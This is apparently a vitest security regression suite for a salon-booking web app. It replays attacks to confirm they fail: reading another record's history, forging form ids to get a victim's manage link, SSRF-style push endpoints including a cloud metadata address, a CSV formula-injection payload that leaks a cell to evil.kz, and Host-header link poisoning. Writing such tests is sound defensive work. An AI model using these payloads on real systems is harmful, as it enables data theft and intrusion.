// Reads and hand-outs that crossed a role's limits, tried again as the attacker
// did: another record's audit rows through a request's history, someone
// else's manage link through the public form, a push "endpoint" anywhere, a
// visitor's name as a spreadsheet formula, and links built from a Host header.
import http from 'node:http';
import Papa from 'papaparse';
import pg from 'pg';
import {afterAll, beforeAll, describe, expect, inject, it} from 'vitest';
import {queries} from '#shared/queries/index.ts';
import {Client, signupCompany, syncContext, uniqueEmail} from '../testing/http.ts';
import {bookPublicly, freeSlots, salon, visitor} from '../testing/salon.ts';
import {createZeroDb} from '../zero/db.ts';

let db: pg.Pool;
beforeAll(() => {
  db = new pg.Pool({connectionString: inject('pgUrl')});
});
afterAll(() => db.end());

describe('a request’s history', () => {
  it('is read only through a request the reader may see: a booking’s or a feed’s id gives nothing', async () => {
    const s = await salon('История и записи');
    const {id: bookingId} = await bookPublicly(s, {name: 'Клиентка Владельца', phone: '+77015550101', email: 'client@example.kz'});
    const feed = await s.owner.post(`/api/v1/booking/masters/${s.master}/feed`, {});
    expect(feed.status).toBe(200);
    const feedToken = feed.body.url.split('/feed/')[1].replace('.ics', '');

    // A colleague who may see only her own bookings.
    const email = uniqueEmail('staff');
    expect((await s.owner.post('/api/v1/members', {name: 'Мастер', email, role: 'staff', password: 'password1'})).status).toBe(201);
    const staff = new Client();
    const me = (await staff.post('/api/v1/auth/login', {email, password: 'password1'})).body;
    expect((await staff.get(`/api/v1/booking/bookings?masterId=${s.master}&from=0&to=${8.64e15}`)).body.data ?? []).toEqual([]);

    for (const id of [bookingId, s.master, s.place]) {
      expect((await staff.get(`/api/v1/requests/${id}/history`)).status).toBe(404);
    }
    // The same named query a device can subscribe to through sync.
    const zdb = createZeroDb(db);
    const rows = [
      ...(await zdb.run(queries.requests.history.fn({args: {id: bookingId}, ctx: syncContext(me, 'staff')}))),
      ...(await zdb.run(queries.requests.history.fn({args: {id: s.master}, ctx: syncContext(me, 'staff')}))),
      ...(await zdb.run(queries.requests.historyParts.fn({args: {id: bookingId}, ctx: syncContext(me, 'staff')}))),
      ...(await zdb.run(queries.requests.historyParts.fn({args: {id: s.master}, ctx: syncContext(me, 'staff')}))),
      ...(await zdb.run(queries.requests.refusals.fn({args: {id: bookingId}, ctx: syncContext(me, 'staff')}))),
    ];
    expect(rows).toEqual([]);
    // Nor does the owner's own history of a request hold the feed's secret: it is not stored anywhere.
    const {rows: audit} = await db.query(`select changes::text as c from audit_log where company_id = $1`, [s.me.company.id]);
    expect(audit.map((r) => r.c).join('\n')).not.toContain(feedToken);
    const {rows: feeds} = await db.query(`select to_jsonb(f)::text as f from booking_feed f where id = $1`, [s.master]);
    expect(feeds[0].f).not.toContain(feedToken);

    // A real request's history still reads, for her too.
    const request = await staff.post('/api/v1/requests', {clientPhone: '+77015550102', text: 'Перезвонить'});
    const history = await staff.get(`/api/v1/requests/${request.body.id}/history`);
    expect(history.status).toBe(200);
    expect(history.body.data.map((e: {entity: string}) => e.entity)).toEqual(['request']);
  });
});

describe('the public booking form', () => {
  it('never hands out an existing booking’s manage link, whatever form id it is given', async () => {
    const s = await salon('Чужая запись');
    const victim = await bookPublicly(s, {name: 'Айгерим Сейткали', phone: '+77015550201', email: 'victim@example.kz'});
    const [start] = await freeSlots(s);
    const attacker = visitor();
    const form = new URLSearchParams({service: s.service, place: s.place, time: String(start), name: 'X', phone: '+77015550202', form_id: victim.id});
    const done = await attacker.req('POST', `/c/${s.slug}/book/dana`, form.toString(), {'content-type': 'application/x-www-form-urlencoded'});
    expect(done.status).toBe(303);
    const link = done.headers.get('location')!;
    expect(link).not.toContain(victim.id);
    const page = await attacker.get(link);
    expect(page.body).not.toContain('Айгерим Сейткали');
    // Forged "signed" ids fare no better.
    for (const forged of [`${victim.id}.AAAAAAAAAAAAAAAAAAAAAA`, `${victim.id}.`, `${victim.id}.${'Ы'.repeat(22)}`]) {
      const [next] = await freeSlots(s);
      const again = await visitor().req(
        'POST',
        `/c/${s.slug}/book/dana`,
        new URLSearchParams({...Object.fromEntries(form), time: String(next), form_id: forged}).toString(),
        {
          'content-type': 'application/x-www-form-urlencoded',
        },
      );
      expect(again.status).toBe(303);
      expect(again.headers.get('location')).not.toContain(victim.id);
    }
    // The victim's booking is untouched.
    const {rows} = await db.query('select client_name from booking where id = $1', [victim.id]);
    expect(rows[0].client_name).toBe('Айгерим Сейткали');
  });

  it('a refreshed or double-tapped form is still one booking with its own link', async () => {
    const s = await salon('Повторная отправка');
    const [start] = await freeSlots(s);
    const v = visitor();
    const step = await v.get(`/c/${s.slug}/book/dana?service=${s.service}&place=${s.place}&time=${start}`);
    const formId = /name="form_id" value="([^"]+)"/.exec(String(step.body))![1]!;
    const body = new URLSearchParams({
      service: s.service,
      place: s.place,
      time: String(start),
      name: 'Дана',
      phone: '+77015550301',
      form_id: formId,
    }).toString();
    const first = await v.req('POST', `/c/${s.slug}/book/dana`, body, {'content-type': 'application/x-www-form-urlencoded'});
    const second = await v.req('POST', `/c/${s.slug}/book/dana`, body, {'content-type': 'application/x-www-form-urlencoded'});
    expect([first.status, second.status]).toEqual([303, 303]);
    expect(second.headers.get('location')).toBe(first.headers.get('location'));
    const {rows} = await db.query('select count(*)::int as n from booking where company_id = $1', [s.me.company.id]);
    expect(rows[0].n).toBe(1);
  });
});

describe('web push subscriptions', () => {
  const keys = {p256dh: 'B'.repeat(87), auth: 'A'.repeat(22)};

  it('accept only a browser push service’s endpoint', async () => {
    const {client} = await signupCompany('Push');
    for (const endpoint of [
      'https://127.0.0.1/api/v1/api-keys',
      'http://fcm.googleapis.com/fcm/send/x',
      'https://169.254.169.254/latest/meta-data/',
      'https://fcm.googleapis.com.evil.kz/x',
    ]) {
      const r = await client.post('/api/v1/push/subscriptions', {endpoint, keys}, {'accept-language': 'ru'});
      expect(r.status, endpoint).toBe(400);
      expect(r.body.error.fields[0].field).toBe('endpoint');
    }
    expect((await client.post('/api/v1/push/subscriptions', {endpoint: `https://fcm.googleapis.com/fcm/send/${crypto.randomUUID()}`, keys})).status).toBe(201);
  });

  it('never move an endpoint another company or colleague registered', async () => {
    const a = await signupCompany('Push A');
    const b = await signupCompany('Push B');
    const endpoint = `https://fcm.googleapis.com/fcm/send/${crypto.randomUUID()}`;
    expect((await a.client.post('/api/v1/push/subscriptions', {endpoint, keys})).status).toBe(201);
    // The owner's own browser again: fine, and its keys are refreshed.
    expect((await a.client.post('/api/v1/push/subscriptions', {endpoint, keys: {...keys, auth: 'C'.repeat(22)}})).status).toBe(201);
    const taken = await b.client.post('/api/v1/push/subscriptions', {endpoint, keys}, {'accept-language': 'ru'});
    expect(taken.status).toBe(409);
    expect(taken.body.error.message).toContain('другого сотрудника');
    const {rows} = await db.query('select company_id, auth from push_subscription where endpoint = $1', [endpoint]);
    expect(rows).toEqual([{company_id: a.me.company.id, auth: 'C'.repeat(22)}]);
  });
});

describe('CSV exports', () => {
  it('turn a visitor’s formula into text in the owner’s spreadsheet, and read back as typed', async () => {
    const {client, me} = await signupCompany('Формулы');
    const evil = '=HYPERLINK("http://evil.kz/?leak="&A2,"Позвонить")';
    const posted = await visitor().req(
      'POST',
      `/c/${me.company.slug}/request`,
      new URLSearchParams({name: evil, phone: '+77015550401', text: 'Здравствуйте'}).toString(),
      {
        'content-type': 'application/x-www-form-urlencoded',
      },
    );
    expect(posted.status).toBe(303);
    const csv = await client.get('/api/v1/clients/export?format=csv');
    expect(csv.status).toBe(200);
    const cells = Papa.parse<string[]>(String(csv.body).replace(/^\uFEFF/, ''), {delimiter: ';'}).data.flat();
    expect(cells).toContain(`'${evil}`);
    expect(cells.some((c) => /^[=+\-@]/.test(c) && !/^[+-][\d\s().,+-]*$/.test(c))).toBe(false);
    // The phone stays a phone.
    expect(cells).toContain('+7 701 555 04 01');
  });
});

describe('links the server builds', () => {
  it('never follow a Host header that does not name this machine', async () => {
    const {client} = await signupCompany('Хост');
    const base = new URL(inject('baseUrl'));
    const invite = await new Promise<{url: string}>((resolve, reject) => {
      const body = JSON.stringify({role: 'staff'});
      const req = http.request(
        {
          host: base.hostname,
          port: base.port,
          method: 'POST',
          path: '/api/v1/invites',
          headers: {host: 'evil.example', cookie: client.cookie, 'content-type': 'application/json', 'content-length': Buffer.byteLength(body)},
        },
        (res) => {
          let text = '';
          res.on('data', (d) => (text += d));
          res.on('end', () => resolve(JSON.parse(text)));
        },
      );
      req.on('error', reject);
      req.end(body);
    });
    expect(invite.url).toMatch(/^http:\/\/[^/]+\/invite\//);
    expect(invite.url).not.toContain('evil');
    expect(new URL(invite.url).port).toBe(base.port);
    // The address the client used, when it is this machine's, is kept.
    expect((await client.post('/api/v1/invites', {role: 'staff'})).body.url.startsWith(`${base.origin}/invite/`)).toBe(true);
  });
});
